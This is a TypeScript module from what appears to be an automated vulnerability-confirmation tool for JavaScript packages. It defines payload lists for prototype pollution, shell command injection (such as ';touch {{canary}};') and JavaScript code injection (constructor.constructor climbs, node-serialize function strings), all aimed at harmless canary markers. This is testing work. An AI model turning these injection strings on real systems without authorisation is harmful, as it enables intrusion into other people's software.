/**
 * Argument templates by class: what to call a function with when nothing is known of it, and what to call it with when
 * its parameters' names, its README or its tests give a hint. Order matters: what succeeds most often comes first.
 */
import type { FlawClass } from '../formats/flaw-class.ts';
import type { PlanReach, PlanValue } from './plan.ts';

export interface Attempt {
  readonly payload: string;
  readonly args: readonly PlanValue[];
  /** What to do with what came back. */
  readonly after?: readonly PlanReach[];
  /** The way to the function where it is not the usual one. */
  readonly reach?: readonly PlanReach[];
}

export interface FunctionHints {
  readonly parameters: readonly string[];
  /** Argument lists seen in the package's own documentation and tests for a function of this name. */
  readonly examples: readonly (readonly PlanValue[])[];
  /** Argument lists made from the types declared for a function of this name. */
  readonly signatures: readonly (readonly PlanValue[])[];
  /** Texts of the function's own source that may be names of options. */
  readonly words: readonly string[];
}

const json = (value: null | boolean | number | string | readonly string[] | Record<string, never>): PlanValue => ({
  kind: 'json',
  value,
});
const P: PlanValue = { kind: 'payload' };
const PARSED: PlanValue = { kind: 'parse', text: '{{payload}}' };
const EMPTY: PlanValue = json({});
const CALLBACK: PlanValue = { kind: 'callback' };
const X = json('x');
const ONE = json('1');
const TRUE = json(true);
const UNDEFINED: PlanValue = { kind: 'undefined' };
const array = (...items: readonly PlanValue[]): PlanValue => ({ kind: 'array', items });
const any = (value: PlanValue, deep = false): PlanValue => ({ kind: 'any-property', value, ...(deep ? { deep } : {}) });
const object = (...members: readonly (readonly [string, PlanValue])[]): PlanValue => ({ kind: 'object', members });

/** Objects whose own keys lead to the prototype; read with JSON.parse. */
export const POLLUTING_OBJECTS = [
  '{"__proto__":{"{{canary}}":"1"}}',
  '{"constructor":{"prototype":{"{{canary}}":"1"}}}',
  '{"a":{"__proto__":{"{{canary}}":"1"}}}',
  '{"a":{"constructor":{"prototype":{"{{canary}}":"1"}}}}',
];

const OBJECT_SHAPES: readonly (readonly PlanValue[])[] = [
  [PARSED],
  [EMPTY, PARSED],
  [object(['a', EMPTY]), PARSED],
  [PARSED, EMPTY],
  [TRUE, EMPTY, PARSED],
  [EMPTY, PARSED, TRUE],
  [EMPTY, EMPTY, PARSED],
  [array(EMPTY, PARSED)],
  [array(PARSED, EMPTY)],
  [array(PARSED)],
  [EMPTY, array(PARSED)],
  [EMPTY, PARSED, CALLBACK],
  [PARSED, CALLBACK],
  [PARSED, PARSED],
  [TRUE, PARSED, EMPTY],
  [json(false), EMPTY, PARSED],
  [EMPTY, TRUE, PARSED],
  [EMPTY, EMPTY, EMPTY, PARSED],
  [EMPTY, PARSED, EMPTY],
  [X, PARSED],
  [PARSED, X],
  [X, EMPTY, PARSED],
  [EMPTY, X, PARSED],
  [json('deep'), EMPTY, PARSED],
  [object(['deep', TRUE], ['recursive', TRUE]), EMPTY, PARSED],
  [EMPTY, PARSED, object(['deep', TRUE], ['recursive', TRUE])],
  [CALLBACK, EMPTY, PARSED],
  [UNDEFINED, PARSED],
  [json(1), EMPTY, PARSED],
  [any(PARSED)],
  [any(PARSED), CALLBACK],
  [any(PARSED), EMPTY, CALLBACK],
  [EMPTY, any(PARSED)],
];

/** Ways to write a path to a property of the prototype as one text. */
export const POLLUTING_PATHS = [
  '__proto__.{{canary}}',
  'constructor.prototype.{{canary}}',
  '/__proto__/{{canary}}',
  '__proto__/{{canary}}',
  '/constructor/prototype/{{canary}}',
  'a.__proto__.{{canary}}',
  '__proto__[{{canary}}]',
  '__proto__:{{canary}}',
  '__proto__->{{canary}}',
  '__proto__|{{canary}}',
  '__proto__,{{canary}}',
  '["__proto__"].{{canary}}',
  '__proto__-{{canary}}',
  '__proto__ {{canary}}',
  '__proto__>{{canary}}',
  '__proto__{{canary}}',
];

const PATH_LISTS = [
  '["__proto__","{{canary}}"]',
  '["constructor","prototype","{{canary}}"]',
  '[["__proto__"],"{{canary}}"]',
  '["a","__proto__","{{canary}}"]',
];

const pathShapes = (path: PlanValue): readonly (readonly PlanValue[])[] => [
  [EMPTY, path, ONE],
  [path, ONE],
  [path, ONE, EMPTY],
  [EMPTY, ONE, path],
  [path, EMPTY, ONE],
  [ONE, path, EMPTY],
  [ONE, EMPTY, path],
  [EMPTY, path, ONE, TRUE],
  [EMPTY, path, { kind: 'returns', value: ONE }],
  [path, { kind: 'returns', value: ONE }],
  [EMPTY, array(path), ONE],
  [EMPTY, path, X, ONE],
  [X, path, ONE],
  [path],
  [EMPTY, path],
  [object(['a', EMPTY]), path, ONE],
];

/** An object with the path as its key, as flattened objects have it. */
const keyShapes: readonly (readonly PlanValue[])[] = [
  [object(['{{payload}}', ONE])],
  [EMPTY, object(['{{payload}}', ONE])],
  [object(['{{payload}}', ONE]), EMPTY],
  [object(['{{payload}}', array(ONE)])],
  [array(object(['{{payload}}', ONE]))],
  [object(['{{payload}}', ONE]), json('.')],
];

/** The key and the canary as arguments of their own. */
const KEY_THEN_CANARY: readonly (readonly PlanValue[])[] = [
  [EMPTY, P, { kind: 'text', text: '{{canary}}' }, ONE],
  [P, { kind: 'text', text: '{{canary}}' }, ONE],
  [EMPTY, P, { kind: 'parse', text: '{"{{canary}}":"1"}' }],
  [P, { kind: 'parse', text: '{"{{canary}}":"1"}' }],
  [{ kind: 'parse', text: '{"{{canary}}":"1"}' }, P],
  [EMPTY, { kind: 'parse', text: '{"{{canary}}":"1"}' }, P],
  [{ kind: 'text', text: '{{canary}}' }, ONE, P],
  [{ kind: 'text', text: '{{canary}}' }, P, ONE],
  [EMPTY, { kind: 'text', text: '{{canary}}' }, P, ONE],
  [object(['{{payload}}', EMPTY]), { kind: 'text', text: '{{canary}}' }, ONE],
];

/** Texts that a parser turns into an object. */
export const POLLUTING_TEXTS = [
  '{"__proto__":{"{{canary}}":"1"}}',
  '[__proto__]\n{{canary}} = "1"\n',
  '[__proto__]\n{{canary}}=1\n',
  '[a.__proto__]\n{{canary}} = "1"\n',
  '__proto__.{{canary}} = "1"\n',
  '__proto__.{{canary}}=1',
  '__proto__[{{canary}}]=1',
  'a[__proto__][{{canary}}]=1',
  'constructor[prototype][{{canary}}]=1',
  'constructor.prototype.{{canary}}=1',
  '?__proto__[{{canary}}]=1',
  '--__proto__.{{canary}}=1',
  '--__proto__.{{canary}} 1',
  '--a.__proto__.{{canary}} 1',
  '--a.constructor.prototype.{{canary}} 1',
  '__proto__:\n  {{canary}}: 1\n',
  '__proto__ {{canary}} 1',
  '__proto__: {{canary}}: 1',
  '<__proto__><{{canary}}>1</{{canary}}></__proto__>',
  '<plist version="1.0"><dict><key>__proto__</key><dict><key>{{canary}}</key><string>1</string></dict></dict></plist>',
  '__proto__.{{canary}}\n1\n',
  '__proto__.{{canary}},b\n1,2\n',
];

const textShapes: readonly (readonly PlanValue[])[] = [
  [P],
  [P, EMPTY],
  [array(P)],
  [{ kind: 'buffer', of: P }],
  [P, CALLBACK],
];

const ARGUMENT_LISTS = [
  '["--__proto__.{{canary}}","1"]',
  '["--__proto__.{{canary}}=1"]',
  '["--constructor.prototype.{{canary}}=1"]',
  '["--a.__proto__.{{canary}}=1"]',
  '["--a.constructor.prototype.{{canary}}","1"]',
];

const PATCHES = [
  '[{"op":"add","path":"/__proto__/{{canary}}","value":"1"}]',
  '[{"op":"add","path":"/constructor/prototype/{{canary}}","value":"1"}]',
  '[{"op":"replace","path":"/__proto__/{{canary}}","value":"1"}]',
  '[{"path":["__proto__","{{canary}}"],"value":"1"}]',
  '[{"name":"__proto__[{{canary}}]","value":"1"}]',
  '[{"key":"__proto__.{{canary}}","value":"1"}]',
  '[["__proto__.{{canary}}","1"]]',
  '[["__proto__",{"{{canary}}":"1"}]]',
];

function each(payloads: readonly string[], shapes: readonly (readonly PlanValue[])[]): Attempt[] {
  return shapes.flatMap((args) => payloads.map((payload) => ({ payload, args })));
}

function pollution(): Attempt[] {
  return [
    ...each(POLLUTING_OBJECTS, OBJECT_SHAPES),
    ...each(POLLUTING_PATHS.slice(0, 6), pathShapes(P)),
    ...each(PATH_LISTS, pathShapes(PARSED)),
    ...each(POLLUTING_PATHS, keyShapes),
    ...each(['__proto__', 'constructor.prototype'], KEY_THEN_CANARY),
    ...each(POLLUTING_TEXTS, textShapes),
    ...each(ARGUMENT_LISTS, [[PARSED], [PARSED, EMPTY]]),
    ...each(PATCHES, [[EMPTY, PARSED], [PARSED], [PARSED, EMPTY]]),
    ...each(POLLUTING_PATHS.slice(6), pathShapes(P)),
  ];
}

export const COMMAND_PAYLOADS = [
  '$(touch {{canary}})',
  ';touch {{canary}};',
  '"; touch {{canary}}; "',
  "'; touch {{canary}}; '",
  '`touch {{canary}}`',
  '& touch {{canary}} &',
  '|| touch {{canary}} ||',
  '| touch {{canary}}',
  '\ntouch {{canary}}\n',
  '&& touch {{canary}} #',
  '127.0.0.1;touch {{canary}}',
  'x@x.x;touch {{canary}};',
  'touch {{canary}}',
];

const commandShapes: readonly (readonly PlanValue[])[] = [
  [P],
  [P, CALLBACK],
  [P, EMPTY, CALLBACK],
  [any(P)],
  [any(P), CALLBACK],
  [P, P],
  [P, P, CALLBACK],
  [X, P],
  [X, P, CALLBACK],
  [P, any(P)],
  [P, any(P), CALLBACK],
  [any(P), any(P), CALLBACK],
  [array(P)],
  [array(P), CALLBACK],
  [X, array(P), CALLBACK],
  [any(P, true)],
  [any(P, true), CALLBACK],
  [EMPTY, P, CALLBACK],
  [P, P, P],
  [P, P, P, CALLBACK],
  [P, P, P, P],
  [any(array(P))],
  [any(array(P)), CALLBACK],
  [CALLBACK, P],
  [X, any(P)],
  [X, any(P), CALLBACK],
  [json(1), P],
  [json(1), P, CALLBACK],
  [X, X, P],
  [X, X, any(P), CALLBACK],
  [CALLBACK],
  [],
];

const STATEMENT = 'globalThis.{{canary}}=1';
const CLIMB = `constructor.constructor('${STATEMENT}')()`;

export const CODE_PAYLOADS = [
  `(globalThis.{{canary}}=1)`,
  `';${STATEMENT};'`,
  `";${STATEMENT};"`,
  `'+(${STATEMENT})+'`,
  `"+(${STATEMENT})+"`,
  `this.${CLIMB}`,
  `${STATEMENT};//`,
  `');${STATEMENT};//`,
  `");${STATEMENT};//`,
  `'];${STATEMENT};//`,
  `"];${STATEMENT};//`,
  `(function(){${STATEMENT}})()`,
  `function(){${STATEMENT}}`,
  `(){};${STATEMENT};function x`,
  `x(){};${STATEMENT};function y`,
  `x){};${STATEMENT};//`,
  `f(){});${STATEMENT};(function`,
  `x[(${STATEMENT})]`,
  `x;${STATEMENT};`,
  `}${STATEMENT};{`,
  `)};${STATEMENT};//`,
  `\n${STATEMENT}\n`,
  `*/${STATEMENT}/*`,
  `_$$ND_FUNC$$_function(){${STATEMENT}}()`,
  `\${${STATEMENT}}`,
  `#{${STATEMENT}}`,
  `{{${CLIMB}}}`,
  `{${STATEMENT}}`,
  `x.constructor.constructor("${STATEMENT}")()`,
  `''.sub.${CLIMB}`,
  `(function(){return this})().${CLIMB}`,
  `try{null.x}catch(e){e.${CLIMB}}`,
  `<%= ${STATEMENT} %>`,
  `!!js/function 'function(){${STATEMENT}}'`,
  `["${CLIMB}"]`,
  `x"]=1;${STATEMENT};a["b`,
  `x']=1;${STATEMENT};a['b`,
];

const codeShapes: readonly (readonly PlanValue[])[] = [
  [P],
  [P, EMPTY],
  [P, CALLBACK],
  [any(P)],
  [X, P],
  [EMPTY, P],
  [array(P)],
  [any(P), CALLBACK],
  [{ kind: 'named-function', text: '{{payload}}' }],
  [object(['{{payload}}', ONE])],
  [array(any(P))],
  [any(P, true)],
  [object(['{{payload}}', EMPTY]), EMPTY],
  [CALLBACK, P],
  [X, any(P)],
  [P, P],
  [{ kind: 'buffer', of: P }],
  [
    object(
      ['type', json('object')],
      ['properties', object(['{{payload}}', object(['type', json('string')], ['required', TRUE])])],
    ),
  ],
  [array(object(['{{payload}}', ONE]))],
  [X, X, P],
];

const FOLLOW: readonly PlanReach[] = [{ kind: 'call', args: [EMPTY] }];

function code(): Attempt[] {
  return each(CODE_PAYLOADS, codeShapes).map((attempt) => ({ ...attempt, after: FOLLOW }));
}

const general = new Map<FlawClass, readonly Attempt[]>();

/** The attempts that fit any function, most promising first. */
export function generalAttempts(flaw: FlawClass): readonly Attempt[] {
  let made = general.get(flaw);
  if (!made) {
    if (flaw === 'prototype-pollution') made = pollution();
    else if (flaw === 'command-injection') made = each(COMMAND_PAYLOADS, commandShapes);
    else if (flaw === 'code-injection') made = code();
    else made = [];
    general.set(flaw, made);
  }
  return made;
}
